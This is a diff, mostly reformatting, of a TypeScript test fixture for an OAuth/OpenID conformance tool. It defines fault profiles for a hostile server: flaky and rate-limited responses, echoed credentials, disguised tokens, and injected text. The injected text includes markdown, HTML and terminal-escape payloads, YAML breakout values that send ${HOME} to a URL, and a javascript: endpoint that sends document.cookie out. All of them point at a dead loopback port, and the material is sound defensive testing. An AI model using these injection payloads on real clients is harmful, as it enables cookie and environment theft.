@@ -4,20 +4,26 @@ import type { MemberEdit } from './member-edits.js';
 const MB = 1024 * 1024;
 
 // What a misconfigured gateway serves in place of what was asked for.
-const LOGIN_PAGE = '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><h1>Sign in</h1>'
-  + '<form method="post" action="/login"><input name="username"><input name="password" type="password"></form></body></html>\n';
+const LOGIN_PAGE =
+  '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><h1>Sign in</h1>' +
+  '<form method="post" action="/login"><input name="username"><input name="password" type="password"></form></body></html>\n';
 
 // Server text built to act on whatever shows it: markdown (a link, a remote image, HTML, a table cell, a heading after a
 // bare CR), a terminal (a colour, an OSC 8 hyperlink, an OSC 0 window title, a C1 CSI) and XML (U+FFFF).
-export const INJECTED_TEXT = ' see [the docs](http://127.0.0.1:1/docs) ![x](http://127.0.0.1:1/pixel.png) <img src="http://127.0.0.1:1/tag.png"> | cell |'
-  + '\r# Heading\n- item \u001b[31mred\u001b[0m \u001b]8;;http://127.0.0.1:1/\u0007link\u001b]8;;\u0007 \u001b]0;owned\u0007 \u009b2J \uffff end';
+export const INJECTED_TEXT =
+  ' see [the docs](http://127.0.0.1:1/docs) ![x](http://127.0.0.1:1/pixel.png) <img src="http://127.0.0.1:1/tag.png"> | cell |' +
+  '\r# Heading\n- item \u001b[31mred\u001b[0m \u001b]8;;http://127.0.0.1:1/\u0007link\u001b]8;;\u0007 \u001b]0;owned\u0007 \u009b2J \uffff end';
 
 // Each closes the quote, flow map or comment a value would sit in if a suite were written by pasting text, and opens
 // its own member: a variable HOME read from the environment, a resource that sends it away, a docs link, a deviation
 // that hides a failure. The URLs are also not http(s), or not URLs at all (RFC 3986 has no braces).
 export const INIT_INJECTIONS: MemberEdit[] = [
   { op: 'set', member: 'issuer', value: "http://127.0.0.1:1' }\n  HOME: { description: 'injected" },
-  { op: 'set', member: 'end_session_endpoint', value: "http://127.0.0.1:1/\nresources:\n  - { name: injected, url: 'http://127.0.0.1:1/?home=${HOME}', grant: system }\n#" },
+  {
+    op: 'set',
+    member: 'end_session_endpoint',
+    value: "http://127.0.0.1:1/\nresources:\n  - { name: injected, url: 'http://127.0.0.1:1/?home=${HOME}', grant: system }\n#",
+  },
   { op: 'set', member: 'userinfo_endpoint', value: 'http://127.0.0.1:1/me?home=${HOME}' },
   { op: 'set', member: 'revocation_endpoint', value: 'javascript:fetch(`//127.0.0.1:1/?${document.cookie}`)' },
   { op: 'set', member: 'x\ndocs: http://127.0.0.1:1/injected\n#_endpoint', value: 'http://127.0.0.1:1/' },
@@ -94,7 +100,8 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'flaky',
-    description: 'The 1st, 4th, 7th… distinct token request and discovery GET are answered 503 without Retry-After (sent again, or with a new code or refresh token, they go through).',
+    description:
+      'The 1st, 4th, 7th… distinct token request and discovery GET are answered 503 without Retry-After (sent again, or with a new code or refresh token, they go through).',
     breaks: [],
     faults: [],
     requestFaults: [
@@ -105,7 +112,8 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'busy-one-time',
-    description: 'The first code redemption and the first refresh are answered 503: a client must start over with a new code or refresh token, never send the spent one again.',
+    description:
+      'The first code redemption and the first refresh are answered 503: a client must start over with a new code or refresh token, never send the spent one again.',
     breaks: [],
     faults: [],
     requestFaults: [
@@ -116,7 +124,7 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'rate-limited',
-    description: 'Each client\'s first token request is answered 429 with Retry-After: 2.',
+    description: "Each client's first token request is answered 429 with Retry-After: 2.",
     breaks: [],
     faults: [],
     requestFaults: [{ kind: 'overloaded', endpoint: 'token', when: { firstPer: 'client' }, status: 429, retryAfter: 2 }],
@@ -124,7 +132,8 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'injected-text',
-    description: 'Every 400 and 401 JSON error of the token endpoint carries hostile text (markdown, HTML, terminal escapes, U+FFFF) after its error code and as its error_description; its codes are then unregistered (RFC 6749 §5.2), so the checks that judge them fail.',
+    description:
+      'Every 400 and 401 JSON error of the token endpoint carries hostile text (markdown, HTML, terminal escapes, U+FFFF) after its error code and as its error_description; its codes are then unregistered (RFC 6749 §5.2), so the checks that judge them fail.',
     breaks: [],
     faults: [],
     requestFaults: [{ kind: 'inject-text', endpoint: 'token', text: INJECTED_TEXT }],
@@ -132,17 +141,20 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'echo-credentials',
-    description: 'Every 400 and 401 JSON error of the token endpoint echoes the request\'s Authorization header (Basic base64 of id:secret) and body, as sent and encoded, in its error_description, a `request` member and WWW-Authenticate.',
+    description:
+      "Every 400 and 401 JSON error of the token endpoint echoes the request's Authorization header (Basic base64 of id:secret) and body, as sent and encoded, in its error_description, a `request` member and WWW-Authenticate.",
     breaks: [],
     faults: [],
     requestFaults: [{ kind: 'echo-request', endpoint: 'token' }],
     hostile: true,
   },
-  ...([
-    ['token-bom', 'with a UTF-8 byte-order mark before it', { prefix: '\uFEFF' }],
-    ['token-xssi', "with an anti-XSSI prefix )]}' before it", { prefix: ")]}'\n" }],
-    ['token-trailing-text', 'with text after it', { suffix: '\n<!-- served by gateway -->' }],
-  ] as const).map(([name, how, wrap]): FaultProfile => ({
+  ...(
+    [
+      ['token-bom', 'with a UTF-8 byte-order mark before it', { prefix: '\uFEFF' }],
+      ['token-xssi', "with an anti-XSSI prefix )]}' before it", { prefix: ")]}'\n" }],
+      ['token-trailing-text', 'with text after it', { suffix: '\n<!-- served by gateway -->' }],
+    ] as const
+  ).map(([name, how, wrap]): FaultProfile => ({
     name,
     description: `Every successful token response comes ${how}: not strict JSON, yet its tokens are tokens.`,
     breaks: [],
@@ -176,7 +188,8 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'disguised-credentials',
-    description: 'Every successful token response also carries its access token as accessToken, AccessToken, ACCESS_TOKEN, access-token and in base64, a made-up session and apiKey, and a JWT whose header does not start with eyJ.',
+    description:
+      'Every successful token response also carries its access token as accessToken, AccessToken, ACCESS_TOKEN, access-token and in base64, a made-up session and apiKey, and a JWT whose header does not start with eyJ.',
     breaks: [],
     faults: [],
     requestFaults: [{ kind: 'disguise-credentials', endpoint: 'token' }],
@@ -199,8 +212,9 @@ export const hostileProfiles: FaultProfile[] = [
   },
   {
     name: 'init-injection',
-    description: 'The discovery document\'s values are YAML and ${VARIABLE} references built to break out of a suite written from them (`conformance init`): '
-      + 'a variable HOME, a resource that sends ${HOME} away, a docs link and a deviation, and javascript: and ${HOME} URLs as endpoints.',
+    description:
+      "The discovery document's values are YAML and ${VARIABLE} references built to break out of a suite written from them (`conformance init`): " +
+      'a variable HOME, a resource that sends ${HOME} away, a docs link and a deviation, and javascript: and ${HOME} URLs as endpoints.',
     breaks: [],
     faults: INIT_INJECTIONS.map((edit) => ({ kind: 'edit-body', endpoint: 'discovery', ...edit })),
     hostile: true,
